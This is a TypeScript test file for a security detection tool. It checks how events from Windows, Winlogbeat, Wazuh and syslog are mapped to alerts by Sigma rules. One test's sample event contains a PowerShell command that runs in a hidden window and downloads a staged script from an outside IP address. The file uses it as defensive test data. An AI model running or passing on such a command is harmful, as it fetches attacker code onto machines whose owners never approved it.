import { absentFields, compileSigma, parseSigma } from '@halyard/detection/sigma';
import { expect, test } from 'vitest';
import { decodeDelivery } from '../decode/decode-delivery.ts';
import { formatOf, loadMapping } from '../formats.ts';
import { compileMapping } from '../mapping/compile-mapping.ts';
import { type EventRule, mapEvents } from './map-events.ts';

const ruleOf = (id: string, detection: string, more = '', state: EventRule['state'] = 'enabled'): EventRule => {
  const rule = parseSigma(
    `title: Rule ${id}\n${more}logsource: { product: any }\ndetection:\n  s: { ${detection} }\n  condition: s`,
  );
  return { id, state, rule, matches: compileSigma(rule) };
};

const mapping = compileMapping(loadMapping('events'));

function map(body: unknown, ...rules: readonly EventRule[]) {
  const text = typeof body === 'string' ? body : JSON.stringify(body);
  const { documents } = decodeDelivery(Buffer.from(text), formatOf('events').wire);
  return mapEvents(mapping, documents, rules, Date.UTC(2026, 10, 27, 6));
}

const tool = { Image: 'C:\\T\\tool.exe' };

test.each([
  [
    'EVTX',
    {
      Event: {
        System: {
          Computer: 'ws-1',
          EventRecordID: 7,
          TimeCreated: { '#attributes': { SystemTime: '2026-11-21T08:30:00Z' } },
        },
        EventData: { ...tool, User: 'CORP\\ada', Hashes: `SHA256=${'a'.repeat(64)}` },
      },
    },
  ],
  [
    'Winlogbeat',
    {
      '@timestamp': '2026-11-21T08:30:00Z',
      winlog: { computer_name: 'ws-1', record_id: 7, event_data: { ...tool, User: 'CORP\\ada' } },
    },
  ],
  [
    'Wazuh',
    {
      timestamp: '2026-11-21T08:30:00Z',
      data: {
        win: {
          system: { computer: 'ws-1', eventRecordID: '7' },
          eventdata: { image: tool.Image, user: 'CORP\\ada' },
        },
      },
    },
  ],
])('an event of %s gives computer, user, program and time', async (_, event) => {
  const { alerts } = await map(event, ruleOf('r', "Image|endswith: '\\tool.exe'"));

  expect(alerts).toHaveLength(1);
  expect(alerts[0]?.alert).toMatchObject({
    title: 'Rule r',
    state: 'unknown',
    entity: 'ws-1',
    event: '7@ws-1',
    at: '2026-11-21T08:30:00.000Z',
    key: [
      ['rule', 'r'],
      ['computer', 'ws-1'],
      ['user', 'CORP\\ada'],
      ['image', tool.Image],
    ],
  });
  expect(alerts[0]?.alert.observables).toContainEqual({ type: 'host', value: 'ws-1', role: 'victim' });
});

test('without a program the addresses tell alerts apart', async () => {
  const event = { src_ip: '192.0.2.7', dest_ip: '203.0.113.9', host: 'fw-1', action: 'deny' };
  const { alerts } = await map(event, ruleOf('r', 'action: deny'));
  expect(alerts[0]?.alert.key).toEqual([
    ['rule', 'r'],
    ['computer', 'fw-1'],
    ['source', '192.0.2.7'],
    ['destination', '203.0.113.9'],
  ]);
});

test.each([
  ['critical', 'Critical'],
  ['informational', 'Low'],
])('the level %s is the severity %s, with the word of the rule', async (level, severity) => {
  const { alerts } = await map({ a: 1 }, ruleOf('r', 'a: 1', `level: ${level}\n`));
  expect(alerts[0]?.alert).toMatchObject({ severity, sourceSeverity: level });
});

test('a rule without a level states no severity', async () => {
  const { alerts } = await map({ a: 1 }, ruleOf('r', 'a: 1'));
  expect(alerts[0]?.alert).toMatchObject({ severity: null, sourceSeverity: null });
});

test('each rule that matches makes its own alert; what none matches is one line with its count', async () => {
  const body = [{ a: 1 }, { a: 2 }, { a: 3 }, { b: 4 }].map((one) => JSON.stringify(one)).join('\n');
  const rules = [ruleOf('one', 'a: 1'), ruleOf('any', 'a|lt: 3'), ruleOf('tested', 'b: 4', '', 'testing')];
  const { alerts, rejections, matched } = await map(body, ...rules);

  expect(alerts.map(({ ruleId, place }) => [ruleId, place])).toEqual([
    ['one', 1],
    ['any', 1],
    ['any', 2],
  ]);
  expect(rejections).toEqual([
    {
      place: 3,
      reason: 'no_rule_matched',
      count: 2,
      detail: 'Events that none of the 2 enabled rules matched: 2. Rules in testing matched 1 of them.',
    },
  ]);
  expect(Object.fromEntries(matched)).toEqual({ one: 1, any: 2, tested: 1 });
});

test('an event within a line of syslog is checked like any other', async () => {
  const line = '<13>1 2026-11-21T08:30:00Z gw-1 app - - - {"action": "deny", "user": "ada"}';
  const { alerts } = await map(line, ruleOf('r', 'action: deny'));
  expect(alerts[0]?.alert).toMatchObject({ entity: 'gw-1', at: '2026-11-21T08:30:00.000Z' });
});

test('a line of syslog that is text is searched for keywords', async () => {
  const rule = parseSigma(
    'title: K\nlogsource: { product: linux }\ndetection:\n  k: [failed password]\n  condition: k',
  );
  const { alerts } = await map('<13>Nov 21 08:30:00 gw-1 sshd[7]: Failed password for root', {
    id: 'k',
    state: 'enabled',
    rule,
    matches: compileSigma(rule),
  });
  expect(alerts).toHaveLength(1);
});

test('a mapping that fails says so for its event and stops no other', async () => {
  const failing = compileMapping('a = 1 ? $error("no") : {"entity": "x"}');
  const documents = [
    { place: 1, value: { a: 1 } },
    { place: 2, value: { a: 2 } },
  ];
  const { alerts, rejections } = await mapEvents(failing, documents, [ruleOf('r', 'a|gt: 0')]);
  expect(alerts.map(({ place }) => place)).toEqual([2]);
  expect(rejections).toMatchObject([{ place: 1, reason: 'mapping_failed' }]);
});

test('an alert says what was run, and its event what addresses and files that names', async () => {
  const command = 'powershell -w hidden iwr http://45.66.1.2/stage.ps1; ping relay.harbour-parcels.com';
  const event = {
    winlog: { computer_name: 'ws-1', event_data: { ...tool, CommandLine: command, FileVersion: '10.2.0.7' } },
    agent: { version: '8.15.0', name: 'shipper.harbour.com' },
    message: `Process Create: FileVersion: 10.2.0.7 CommandLine: ${command}`,
  };
  const { alerts } = await map(event, ruleOf('r', 'CommandLine|contains: hidden', 'description: Hidden window.\n'));

  expect(alerts[0]?.alert.description).toBe(`Hidden window.\n\nCommand line: ${command}`);
  expect(alerts[0]?.seen.split('\n')[0]).toBe(command);
  expect(alerts[0]?.seen).not.toMatch(/10\.2\.0\.7|shipper/);
});

test('a line of syslog of RFC 3164 is of the year in which it came', async () => {
  const line =
    '<34>Nov 27 05:00:00 web-1 nginx: {"http":{"request":{"method":"POST"}},"url":{"original":"/admin.php"}}';
  const { alerts } = await map(line, ruleOf('r', 'cs-method: POST, c-uri|endswith: .php'));

  expect(alerts.map(({ alert }) => alert.at)).toEqual(['2026-11-27T05:00:00.000Z']);
});

test('a rule that is tried counts the fields that events do not have', async () => {
  const rule = ruleOf('r', 'cs-method: POST, Invented: x');
  const { absent } = await map([{ method: 'POST' }, { Invented: 'y' }], { ...rule, absent: absentFields(rule.rule) });

  expect(Object.fromEntries(absent)).toEqual({ Invented: 1, 'cs-method': 1 });
});
